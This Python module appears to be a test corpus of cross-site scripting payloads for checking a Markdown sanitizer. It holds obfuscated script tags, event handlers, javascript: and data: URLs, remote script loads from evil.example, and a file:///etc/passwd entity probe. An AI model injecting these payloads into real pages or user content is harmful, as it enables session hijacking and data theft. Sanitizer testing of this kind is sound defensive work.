"""Hostile Markdown: what people have used, and a little more, to get a script past a cleaner."""

_TAGS = '''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x0c>alert(1)</script>
<script/x>alert(1)</script>
<script>alert(1)//
<svg><script>alert(1)</script></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<applet code=x></applet>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>
<style>@import "//evil.example/x.css";</style>
<style>p{background:url(javascript:alert(1))}</style>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>x</button>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html onclick=alert(1)>x</html>
<frameset onload=alert(1)></frameset>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="x` `<script>alert(1)</script>"` `>
<img src='x' onerror
=alert(1)>
<img \x00src=x onerror=alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img srcset="x 1x, javascript:alert(1) 2x">
<img src=x style="x:expression(alert(1))">
<image src=x onerror=alert(1)>
<isindex action=javascript:alert(1) type=image>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>
<title><img title="</title><img src onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<custom-element onclick=alert(1)>x</custom-element>
<dialog open>x</dialog>
<portal src=//evil.example></portal>
<slot onslotchange=alert(1)>x</slot>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example/x.js></layer>
<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
</p></div></main><script>alert(1)</script>
</table></td><h1>taken over</h1>
</textarea></title></style></script><svg onload=alert(1)>
<p onclick=alert(1)>x</p>
<p style="position:fixed;inset:0">x</p>
<p id=site class="btn" name=actor>x</p>
<a id=site href=x name=site>x</a>
<a href=x target=_blank ping=//evil.example rel=opener>x</a>
<a href=x onmouseover=alert(1) download>x</a>
<img name=getElementById id=body src=x alt=x>
<abbr title="x" onclick=alert(1)>x</abbr>
<abbr title='"><script>alert(1)</script>'>x</abbr>
<td background="javascript:alert(1)">x</td>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<table class="x" style="y" onclick=z><tr><td align="left" bgcolor=red>x</td></tr></table>
<table><script>alert(1)</script><tr><td>x
<table><tr><td></table></table></div></div><table>
<ol start="1" onclick=alert(1)><li>x</li></ol>
<ol type="a" reversed><li value=9>x</li></ol>
<h2 id="a" onclick=alert(1)>x</h2>
<h1>x</h1><h5>y</h5><h6>z</h6>
<div class="tablewrap" tabindex="0" onclick=alert(1)>x</div>
<span data-x="1" hidden>x</span>
<p title="<table>">&lt;table&gt;</p>
<a title="<table>" href="x">y</a>
<img alt="</table>" src="x">
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<del cite="javascript:alert(1)" datetime=x>x</del>
<kbd>&lt;script&gt;alert(1)&lt;/script&gt;</kbd>
<b<script>alert(1)</script>
<<script>alert(1);//<</script>
<a<b onclick=alert(1)>x
<p =onclick=alert(1)>x
<p "onclick=alert(1)>x
<img """><script>alert(1)</script>">
<a href="x"onclick=alert(1)>x</a>
%3Cscript%3Ealert(1)%3C/script%3E
&#60;script&#62;alert(1)&#60;/script&#62;
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\x02klzzwxh:0000\x03 <script>alert(1)</script>
\x02wzxhzdk:0\x03\x02wzxhzdk:1\x03
{{ 7*7 }}{% import os %}${7*7}#{7*7}
'''

# Addresses that no browser may be sent to; each is tried as a link, an image, a reference and raw.
ADDRESSES = """
javascript:alert(1)
javascript:123
javascript:1
javascript:0//
javascript:80/alert(1)
javascript://evil.example/%0aalert(1)
JaVaScRiPt:alert(1)
  javascript:alert(1)
\x01javascript:alert(1)
\x1fjavascript:alert(1)
java\tscript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
java&#10;script:alert(1)
java&#x0D;script:1
&#106;avascript:alert(1)
&#0000106avascript:alert(1)
&#x6A;avascript:1
javascript&colon;alert(1)
javascript&colon;1
javascript&#58;1
javascript&#x3a;1
javascript&#58alert(1)
&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41
javascript\u200b:alert(1)
java\u00adscript:1
\u2028javascript:alert(1)
\ufeffjavascript:1
vbscript:msgbox(1)
vbscript:1
livescript:1
mocha:1
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
data:1
data:,x
DATA:1
blob:https://evil.example/1
file:///etc/passwd
filesystem:https://evil.example/x
view-source:x
about:blank
ftp://evil.example/x
tel:1
ws://evil.example
intent://x#Intent;scheme=javascript;end
feed:javascript:alert(1)
jar:javascript:alert(1)
chrome://settings
x-schema:y
foo:1
a:b:c
:alert(1)
javascript\\:alert(1)
javascript%3Aalert(1):2
[javascript:alert(1)
http\\://x:y
""".strip("\n").split("\n")  # fmt: skip

_FORMS = (
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    '[x]({0} "title")',
    "[x][r]\n\n[r]: {0}",
    "[r]\n\n[r]: <{0}> 'title'",
    "![x][r]\n\n[r]: {0}",
    "<{0}>",
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    '<img src="{0}" alt="x">',
    "[![x]({0})]({0})",
    "[[x]({0})]({0})",
    "| a |\n|:-:|\n| [x]({0}) |",
    "- [x]({0})\n    > ![y]({0})",
)

_MARKDOWN = r"""
[x](http://a.example "onclick=alert(1)")
[x](http://a.example 'x" onclick="alert(1)')
[x](http://a.example"onclick="alert(1))
![x" onerror="alert(1)](y)
![x](y "z\" onerror=\"alert(1)")
[<img src=x onerror=alert(1)>](http://a.example)
[x](http://a.example)<script>alert(1)</script>
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>` ``
<http://a.example/"onclick="alert(1)>
<a@b.example"onclick="alert(1)>
[x](<javascript:alert(1)//http://a.example>)
[x]: javascript:alert(1)
[javascript:alert(1)]
*[x]: "><script>alert(1)</script>
[a](b)[c]{onclick=alert(1)}
# x {#id .class onclick=alert(1)}
![x](y){: onerror=alert(1)}
[toc]
\<script>alert(1)\</script>
\[x](javascript\:alert(1))
**<script>alert(1)</script>**
~~~html onclick=alert(1)
""".strip("\n").split("\n")

_BLOCKS = [
    "| a | b |\n|:--|--:|\n| <script>alert(1)</script> | <td onclick=x> |",
    "| a |\n|---|\n| </td></tr></table><script>alert(1)</script> |",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html" onload="alert(1)\nx\n```',
    "``` { .x onclick=alert(1) #id }\nx\n```",
    "~~~ javascript:alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "x\n:   <script>alert(1)</script>\n    <p onclick=x>",
    "*[x]: javascript:alert(1)\n\nx",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "> <div>\n> > <script>alert(1)\n\n</div></blockquote></blockquote>",
    "1. <ol start='javascript:1'>\n2. </li></ol></main>",
    "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
    "<!--\n\n--><script>\n\nalert(1)\n\n</script>",
    "<script>\n\n`</script><script>alert(1)</script>`",
    "<table>\n\n|a|\n|-|\n|</table>|\n\n</table>",
    "a <b\n\n>c onclick=alert(1)>",
    "<a href=\"x\n\n\" onclick=alert(1)>",
]  # fmt: skip

PAYLOADS = [
    *(line for line in _TAGS.strip("\n").split("\n") if line),
    *(form.format(address) for address in ADDRESSES for form in _FORMS),
    *_MARKDOWN,
    *_BLOCKS,
]
